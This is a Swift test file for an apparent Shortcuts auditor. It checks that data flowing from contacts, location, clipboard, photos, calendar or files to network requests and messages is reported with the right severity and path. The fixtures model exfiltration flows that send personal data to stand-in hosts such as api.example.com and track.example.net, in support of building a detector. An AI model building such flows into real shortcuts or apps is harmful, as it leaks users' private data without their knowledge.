import Foundation
import PropertyList
import ShortcutAudit
import ShortcutModel
import Testing

/// One test per way data travels between actions; each checks the exact finding and path.
@Suite struct DataFlowTests {
    typealias F = Fixture
    let network = "audit.flow.network"

    @Test func magicVariableCarriesContactsToTheNetwork() throws {
        let report = F.audit([
            F.action("selectcontacts", 1),
            F.fetch(F.text(.text("https://api.example.com/up?c="), .variable(F.output(1, "Contact"))), method: "POST"),
        ])
        let finding = try #require(report.findings.first)
        #expect(report.findings.count == 1)
        #expect(finding.rule == network)
        #expect(finding.severity == .error)
        #expect(finding.sinkAction == 1)
        #expect(finding.sourceActions == [0])
        #expect(finding.sourceKinds == ["contacts"])
        #expect(finding.hosts == ["api.example.com"])
        #expect(finding.channels == ["WFURL"])
        #expect(finding.pathDescription == "0 Select Contact → 1 Get Contents of URL (POST api.example.com)")
        #expect(report.verdict == "sends contacts to api.example.com")
        #expect(finding.diagnostic.actionIndex == 1)
        #expect(finding.diagnostic.rule == network)
    }

    @Test func namedVariableAndTextInterpolationMakeTheIssuesExamplePath() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action("selectcontacts", 1),
                    F.setVariable("people", F.output(1, "Contact")),
                    F.action(
                        "gettext", 3, [("WFTextActionText", F.text(.text("list="), .variable(.variable("people"))))]),
                    F.fetch(
                        F.text(.text("https://api.example.com/p?"), .variable(F.output(3, "Text"))), method: "POST"),
                ], rule: network
            ).first)
        #expect(
            finding.pathDescription
                == "0 Select Contact → 1 Set Variable «people» → 2 Text → 3 Get Contents of URL (POST api.example.com)")
    }

    @Test func dictionaryValueCarriesLocationIntoTheRequestBody() throws {
        let body = DictionaryField(items: [
            DictionaryItem(
                itemTypeCode: 0, key: F.text(.text("where")), value: F.text(.variable(F.output(1, "Location"))))
        ])
        let finding = try #require(
            F.findings(
                [
                    F.action("getcurrentlocation", 1),
                    F.action("dictionary", 2, [("WFItems", .dictionaryField(body))]),
                    F.action(
                        "getvalueforkey", 3,
                        [("WFInput", .variable(F.output(2, "Dictionary"))), ("WFDictionaryKey", "where")]),
                    F.action(
                        "downloadurl", 4,
                        [
                            ("WFURL", "https://track.example.net/log"), ("WFHTTPMethod", "POST"),
                            (
                                "WFJSONValues",
                                .dictionaryField(
                                    DictionaryField(items: [
                                        DictionaryItem(
                                            itemTypeCode: 0, key: F.text(.text("loc")),
                                            value: F.text(.variable(F.output(3, "Value"))))
                                    ]))
                            ),
                        ]),
                ], rule: network
            ).first)
        #expect(finding.sourceKinds == ["location"])
        #expect(finding.channels == ["WFJSONValues"])
        #expect(
            finding.pathDescription
                == "0 Get Current Location → 1 Dictionary → 2 Get Dictionary Value → 3 Get Contents of URL (POST track.example.net)"
        )
    }

    @Test func listItemsCarryTheClipboard() throws {
        let list = ListParameter(items: [
            .item(DictionaryItem(itemTypeCode: 0, key: nil, value: F.text(.variable(F.output(1, "Clipboard")))))
        ])
        let finding = try #require(
            F.findings(
                [
                    F.action("getclipboard", 1),
                    F.action("list", 2, [("WFItems", .list(list))]),
                    F.action("text.combine", 3, [("text", .variable(F.output(2, "List")))]),
                    F.fetch(F.text(.text("https://paste.example.org/new?t="), .variable(F.output(3, "Combined Text")))),
                ], rule: network
            ).first)
        #expect(finding.sourceKinds == ["clipboard"])
        #expect(
            finding.pathDescription
                == "0 Get Clipboard → 1 List → 2 Combine Text → 3 Get Contents of URL (GET paste.example.org)")
    }

    @Test func repeatItemCarriesEachPhoto() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action("selectphoto", 1),
                    F.control("repeat.each", .start, group: 1, [("WFInput", .variable(F.output(1, "Photos")))]),
                    F.action("base64encode", 3, [("WFInput", .variable(.variable("Repeat Item")))]),
                    F.fetch(
                        F.text(.text("https://img.example.com/u?d="), .variable(F.output(3, "Base64 Encoded"))),
                        method: "PUT"),
                    F.control("repeat.each", .end, group: 1),
                ], rule: network
            ).first)
        #expect(finding.sourceKinds == ["photos"])
        #expect(
            finding.pathDescription
                == "0 Select Photos → 1 Repeat with Each → 2 Base64 Encode → 3 Get Contents of URL (PUT img.example.com)"
        )
    }

    @Test func eitherBranchOfAnIfReachesTheSink() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action("getclipboard", 1),
                    F.control("conditional", .start, group: 1, [("WFCondition", .integer(100))]),
                    F.setVariable("payload", F.output(1, "Clipboard")),
                    F.control("conditional", .middle, group: 1),
                    F.action("gettext", 5, [("WFTextActionText", "nothing")]),
                    F.setVariable("payload", F.output(5, "Text")),
                    F.control("conditional", .end, group: 1),
                    F.fetch(F.text(.text("https://x.example.com/?p="), .variable(.variable("payload")))),
                ], rule: network
            ).first)
        #expect(
            finding.pathDescription
                == "0 Get Clipboard → 2 Set Variable «payload» → 7 Get Contents of URL (GET x.example.com)")
    }

    @Test func aMenuCaseReachesTheSink() throws {
        let finding = try #require(
            F.findings(
                [
                    F.control("choosefrommenu", .start, group: 1, [("WFMenuItems", .array(["Share", "Keep"]))]),
                    F.control("choosefrommenu", .middle, group: 1, [("WFMenuItemTitle", "Share")]),
                    F.action("getcurrentlocation", 3),
                    F.setVariable("here", F.output(3, "Location")),
                    F.control("choosefrommenu", .middle, group: 1, [("WFMenuItemTitle", "Keep")]),
                    F.control("choosefrommenu", .end, group: 1),
                    F.action(
                        "sendmessage", nil,
                        [("WFSendMessageContent", F.text(.text("I am at "), .variable(.variable("here"))))]),
                ], rule: "audit.flow.messages"
            ).first)
        #expect(finding.severity == .error)
        #expect(finding.pathDescription == "2 Get Current Location → 3 Set Variable «here» → 6 Send Message")
    }

    @Test func anAggrandizedPropertyStillCarriesTheSource() throws {
        var phones = F.output(1, "Contacts")
        phones.aggrandizements = [.property("Phone Numbers")]
        let finding = try #require(
            F.findings(
                [
                    F.action("filter.contacts", 1),
                    F.fetch(F.text(.text("https://api.example.com/n?"), .variable(phones))),
                ], rule: network
            ).first)
        #expect(finding.pathDescription == "0 Find Contacts → 1 Get Contents of URL (GET api.example.com)")
    }

    @Test func nestedBlocksAndAnOuterLoopVariableReachTheSink() throws {
        // The variable is appended inside If-inside-Repeat and sent after both close.
        let finding = try #require(
            F.findings(
                [
                    F.action("filter.calendarevents", 1),
                    F.control("repeat.each", .start, group: 1, [("WFInput", .variable(F.output(1, "Events")))]),
                    F.control("conditional", .start, group: 2, [("WFCondition", .integer(100))]),
                    F.action(
                        "appendvariable", nil,
                        [("WFVariableName", "events"), ("WFInput", .variable(.variable("Repeat Item")))]),
                    F.control("conditional", .end, group: 2),
                    F.control("repeat.each", .end, group: 1),
                    F.fetch(
                        F.text(.text("https://cal.example.com/?e="), .variable(.variable("events"))), method: "POST"),
                ], rule: network
            ).first)
        #expect(finding.sourceKinds == ["calendar"])
        #expect(
            finding.pathDescription
                == "0 Find Calendar Events → 1 Repeat with Each → 3 Add to Variable «events» → 6 Get Contents of URL (POST cal.example.com)"
        )
    }

    @Test func aVariableReadBeforeItIsSetInALoopIsFoundOnTheNextRound() throws {
        // Round 1 sends «last» before the loop body sets it; the value from the previous
        // iteration only arrives when the body is walked again.
        let finding = try #require(
            F.findings(
                [
                    F.action("getlastphoto", 1),
                    F.control("repeat.count", .start, group: 1, [("WFRepeatCount", .integer(3))]),
                    F.fetch(F.text(.text("https://loop.example.com/?v="), .variable(.variable("last")))),
                    F.setVariable("last", F.output(1, "Photo")),
                    F.control("repeat.count", .end, group: 1),
                ], rule: network
            ).first)
        #expect(
            finding.pathDescription
                == "0 Get Latest Photos → 3 Set Variable «last» → 2 Get Contents of URL (GET loop.example.com)")
    }

    @Test func theImplicitInputOfTheNextActionCarriesData() throws {
        // Workflow-era files chain actions without variables: each takes the previous output.
        let finding = try #require(
            F.findings(
                [
                    F.action("getclipboard"),
                    F.action("comment", nil, [("WFCommentActionText", "send it")]),
                    F.action("base64encode"),
                    F.action("downloadurl", nil, [("WFHTTPMethod", "POST")]),
                ], rule: network
            ).first)
        #expect(finding.channels == ["WFURL"])
        #expect(finding.hosts == ["computed"])
        #expect(finding.pathDescription == "0 Get Clipboard → 2 Base64 Encode → 3 Get Contents of URL (POST computed)")
    }

    @Test func builtInClipboardAndShortcutInputAreSources() throws {
        let report = F.audit([
            F.fetch(
                F.text(
                    .text("https://a.example.com/?c="), .variable(Attachment(type: .clipboard)), .text("&i="),
                    .variable(Attachment(type: .extensionInput))))
        ])
        let finding = try #require(report.findings.first)
        #expect(finding.severity == .error)
        #expect(finding.sourceKinds == ["clipboard", "shortcut-input"])
        #expect(finding.sourceActions.isEmpty)
        #expect(finding.pathDescription == "Clipboard → 0 Get Contents of URL (GET a.example.com)")
    }

    @Test func runShortcutIsNotedWithWhatItIsGivenButNotFollowed() throws {
        let finding = try #require(
            F.findings(
                [
                    F.action("selectcontacts", 1),
                    F.action(
                        "runworkflow", nil,
                        [("WFWorkflowName", "Helper"), ("WFInput", .variable(F.output(1, "Contact")))]),
                ], rule: "audit.capability.run-shortcut"
            ).first)
        #expect(finding.severity == .note)
        #expect(finding.sourceKinds == ["contacts"])
        #expect(
            finding.message == "runs the shortcut «Helper», whose actions are not audited here; it is given contacts")
    }

    @Test func aSourceGivenDataPassesItOnWithItsOwnStep() throws {
        // Ask's default answer is the file: the file's path goes through the Ask step.
        let finding = try #require(
            F.findings(
                [
                    F.action("documentpicker.open", 1),
                    F.action("ask", 2, [("WFAskActionDefaultAnswer", F.text(.variable(F.output(1, "File"))))]),
                    F.fetch(F.text(.text("https://f.example.com/?n="), .variable(F.output(2, "Provided Input")))),
                ], rule: "audit.flow.network"
            ).first)
        #expect(finding.sourceKinds == ["files", "user-input"])
        #expect(finding.severity == .error)
        #expect(
            finding.pathDescription
                == "0 Get File from Folder → 1 Ask for Input → 2 Get Contents of URL (GET f.example.com)")
        #expect(finding.sourceActions == [0, 1])
    }
}
